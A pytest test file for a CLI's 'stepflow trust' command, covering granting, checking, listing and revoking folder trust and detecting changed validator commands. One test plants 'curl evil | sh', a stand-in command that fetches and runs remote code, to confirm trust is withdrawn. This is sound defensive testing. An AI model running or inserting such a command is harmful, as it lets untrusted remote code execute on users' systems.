"""`stepflow trust`: trust given, asked for, listed and taken back, for the whole project."""

import os
from pathlib import Path

import pytest

from .conftest import Run
from .run.test_run_command import closing


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    folder = tmp_path / "project"
    (folder / ".agent" / "demo").mkdir(parents=True)
    monkeypatch.chdir(folder)
    return folder


def test_trust_is_given_and_taken_back(run: Run, project: Path) -> None:
    assert run("trust", "--check") == (1, f"not trusted: {project}\n", "")
    assert run("trust", ".agent/demo") == (0, f"trusted: {project}\n", "")
    assert run("trust", "--check").code == 0
    assert run("trust", "--list").out == f"{project}\n"
    assert run("trust", "--remove") == (0, f"no longer trusted: {project}\n", "")
    assert run("trust", "--check").code == 1
    assert run("trust", "--list").out == ""


def test_a_folder_that_is_gone_is_listed_as_such_and_can_be_removed(run: Run, project: Path) -> None:
    run("trust")
    moved = project.rename(project.parent / "moved")
    assert run("trust", "--list").out == f"{project} (gone or replaced)\n"
    assert run("trust", "--check", moved).code == 1
    assert run("trust", project).code == 2
    assert run("trust", "--remove", project).code == 0
    assert run("trust", "--list").out == ""


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no named pipes here")
def test_what_is_no_file_and_no_folder_trusts_nothing(run: Run, project: Path) -> None:
    os.mkfifo(project / "pipe")
    (project / "circle").symlink_to("circle")
    for name in ("pipe", "circle", "n" * 5000, "gone"):
        found = run("trust", name)
        assert found.code == 2, name
        assert name in found.err
    assert run("trust", "--list").out == ""


def test_a_broken_list_is_reported(run: Run, project: Path) -> None:
    file = project.parent / "config" / "stepflow" / "trust.json"
    file.parent.mkdir(parents=True)
    file.write_text("{")
    for arguments in ([], ["--list"], ["--remove"]):
        code, out, err = run("trust", *arguments)
        assert (code, out) == (2, "")
        assert "trust.json: the trusted folders can't be read" in err


def test_commands_that_changed_are_reported(run: Run, project: Path) -> None:
    registry = project / ".agent" / "demo" / "steps_registry.json"
    content = '{"agentId": "demo", "steps": {}, "validators": {"check": {"type": "command", "command": "make"}}}'
    registry.write_text(content, "utf-8")
    run("trust")
    assert run("trust", "--check").code == 0
    registry.write_text(content.replace("make", "curl evil | sh"), "utf-8")
    expected = f"not trusted: {project} (commands have changed since it was trusted)\n"
    assert run("trust", "--check") == (1, expected, "")


def test_by_chance_no_command_runs_and_trust_is_not_proposed(run: Run, project: Path) -> None:
    agent, _script = closing(project.parent, "touch ran")
    for more in ([], ["--trust"]):
        runs = [run("run", agent, "--random", "1", "--seed", str(seed), *more) for seed in range(1, 6)]
        assert any("validator git-clean" in out for _code, out, _err in runs)
        assert not any("simulated" in err for _code, _out, err in runs)
    assert not list(project.parent.rglob("ran"))
